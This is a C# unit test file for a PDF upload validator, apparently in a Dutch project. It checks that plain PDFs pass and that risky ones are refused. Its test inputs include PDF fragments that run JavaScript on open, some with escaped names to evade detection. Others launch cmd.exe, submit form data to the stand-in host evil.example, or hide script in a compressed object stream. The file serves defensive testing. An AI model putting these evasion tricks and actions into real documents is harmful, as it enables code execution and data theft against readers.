using System.IO.Compression;
using System.Text;
using PubliekeVeranderaars.Core.Media;

namespace PubliekeVeranderaars.Core.Tests.Media;

/// <summary>PDFs are kept as they come, so one that can run something or carries files is refused, however it hides it.</summary>
public sealed class MediaPdfsTests
{
    private static byte[] Pdf(string body) => Encoding.Latin1.GetBytes($"%PDF-1.7\n{body}\ntrailer<</Root 1 0 R>>\n%%EOF\n");

    /// <summary>An object stream (PDF 1.5) with its objects compressed, as Word and most writers make them.</summary>
    private static byte[] WithObjectStream(string objects, string streamName = "/ObjStm")
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true)) zlib.Write(Encoding.Latin1.GetBytes(objects));
        var head = Encoding.Latin1.GetBytes($"%PDF-1.7\n5 0 obj\n<</Type {streamName} /N 1 /First 4 /Filter /FlateDecode /Length {packed.Length}>>\nstream\n");
        var tail = Encoding.Latin1.GetBytes("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
        return [.. head, .. packed.ToArray(), .. tail];
    }

    [Fact]
    public void A_plain_pdf_with_pages_text_and_a_link_is_accepted() =>
        MediaPdfs.Check(Pdf("1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/XYZ null null 0]>>endobj\n" +
                            "3 0 obj<</Type/Page/Annots[<</Subtype/Link/A<</S/URI/URI(https://www.rijksoverheid.nl/)>>>>]>>endobj"));

    [Theory]
    [InlineData("1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "JavaScript")]
    [InlineData("1 0 obj<</OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj", "JavaScript")]
    [InlineData("1 0 obj<</AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj", "programma")]
    [InlineData("1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj", "ingesloten bestanden")]
    [InlineData("1 0 obj<</AcroForm<</XFA 2 0 R>>>>endobj", "XFA")]
    [InlineData("1 0 obj<</A<</S/SubmitForm/F(https://evil.example)>>>>endobj", "verstuurt")]
    [InlineData("1 0 obj<</Encrypt 2 0 R>>endobj", "versleuteld")]
    public void A_pdf_that_can_run_something_or_carries_files_is_refused_in_dutch(string body, string expected)
    {
        var refused = Assert.Throws<MediaRefusedException>(() => MediaPdfs.Check(Pdf(body)));
        Assert.Contains(expected, refused.Message);
    }

    [Fact]
    public void Script_inside_a_compressed_object_stream_is_found()
    {
        var refused = Assert.Throws<MediaRefusedException>(() => MediaPdfs.Check(WithObjectStream("6 0 <</S/JavaScript/JS(app.alert(1))>>")));
        Assert.Contains("JavaScript", refused.Message);
        // The stream's own name escaped, as a reader still understands it.
        Assert.Throws<MediaRefusedException>(() => MediaPdfs.Check(WithObjectStream("6 0 <</S/JavaScript/JS(x)>>", "/Obj#53tm")));
    }

    [Fact]
    public void Names_that_happen_to_sit_in_a_picture_or_a_page_drawing_are_data_not_features()
    {
        // An image stream's bytes may spell "/JS " by chance; only dictionaries and object streams count.
        MediaPdfs.Check(Encoding.Latin1.GetBytes("%PDF-1.7\n4 0 obj<</Type/XObject/Subtype/Image/Length 12>>\nstream\n\u00ff/JS \u0001/XFA\u0002\nendstream\nendobj\ntrailer<<>>\n%%EOF"));
        MediaPdfs.Check(WithObjectStream("6 0 <</Type/Page>>"));
    }

    [Fact]
    public void A_pdf_without_its_end_is_refused_as_incomplete()
    {
        var refused = Assert.Throws<MediaRefusedException>(() => MediaPdfs.Check(Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj<<>>endobj\n")));
        Assert.Contains("onvolledig", refused.Message);
    }
}
